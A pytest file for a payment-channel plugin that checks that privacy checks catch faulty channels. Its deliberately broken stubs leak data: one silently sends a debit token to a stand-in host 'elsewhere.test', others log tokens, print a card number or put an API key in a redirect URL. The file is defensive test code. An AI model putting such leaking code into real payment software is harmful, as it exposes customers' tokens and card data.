"""What shows or keeps a person is found."""

import logging
from collections.abc import Callable
from contextlib import suppress
from dataclasses import replace
from typing import Any
from urllib.parse import urlencode

import pytest
from suidai_allinpay.channel import AllinpayChannel

from plugins.testing import Subject, nothing_personal_shows, states_are_small
from suidai.contract import (
    BeginMandate,
    CreatePayment,
    Debit,
    MandateResult,
    MandateState,
    PaymentResult,
    RedirectUrl,
    SmsSent,
)
from tests.plugins.testing.allinpay import Check, altered, spoiled, then


async def tells_of_the_token(self: Any, asked: Debit) -> PaymentResult:
    with suppress(Exception):
        await self._runtime.http.get("https://elsewhere.test/", params={"agreement": asked.token})
    return await AllinpayChannel.debit(self, asked)


async def logs_the_token(self: Any, asked: Debit) -> PaymentResult:
    self._runtime.logger.warning("a debit under %s", asked.token)
    return await AllinpayChannel.debit(self, asked)


async def logs_the_token_by_itself(self: Any, asked: Debit) -> PaymentResult:
    logging.getLogger("suidai_allinpay.channel").error("a debit under %s", asked.token)
    return await AllinpayChannel.debit(self, asked)


async def prints_the_card(self: Any, asked: BeginMandate) -> MandateResult:
    told = await AllinpayChannel.begin_mandate(self, asked)
    if told.state is MandateState.ACTION_REQUIRED:
        print(asked.borrower.card_number.reveal())  # noqa: T201
    return told


def with_state(state: Callable[[Any], Any]) -> Callable[[Any, Any], Any]:
    return lambda asked, result: replace(result, channel_state=state(asked))


@pytest.mark.parametrize(
    ("check", "subject", "says"),
    [
        (states_are_small, then("debit", with_state(lambda asked: {"x": "x" * 4096})), "larger than 4096 bytes"),
        (states_are_small, then("debit", with_state(lambda asked: {"at": asked.submitted_at})), "is no JSON"),
        (
            states_are_small,
            then("begin_mandate", with_state(lambda asked: {"card": asked.borrower.card_number.reveal()})),
            "a person's data",
        ),
        (nothing_personal_shows, spoiled(debit=tells_of_the_token), "shows a secret, a person or a token"),
        (nothing_personal_shows, spoiled(debit=logs_the_token), "shows a secret, a person or a token"),
        (nothing_personal_shows, spoiled(debit=logs_the_token_by_itself), "shows a secret, a person or a token"),
        (nothing_personal_shows, spoiled(begin_mandate=prints_the_card), "shows a secret, a person or a token"),
        (
            nothing_personal_shows,
            then("begin_mandate", lambda asked, told: replace(told, bank=asked.borrower.phone.reveal())),
            "shows a secret, a person or a token",
        ),
        (
            nothing_personal_shows,
            then(
                "begin_mandate",
                lambda asked, told: replace(told, action=SmsSent(asked.borrower.phone.reveal())),
            ),
            "shows a secret, a person or a token",
        ),
    ],
    ids=range(9),
)
async def test_a_fault_of_a_debiting_channel_is_found(check: Check, subject: Subject, says: str) -> None:
    with pytest.raises(AssertionError, match=says):
        await check(subject)


async def test_a_secret_in_an_address_is_found_however_it_is_written(tillpay: Subject) -> None:
    base: Any = type(tillpay.channel())

    async def create(self: Any, asked: CreatePayment) -> PaymentResult:
        told = await base.create_payment(self, asked)
        address = f"https://till.test/?{urlencode({'key': self._config.key.reveal()})}"
        return replace(told, action=RedirectUrl(address)) if told.action else told

    await nothing_personal_shows(tillpay)
    with pytest.raises(AssertionError, match="shows a secret"):
        await nothing_personal_shows(altered(tillpay, create_payment=create))
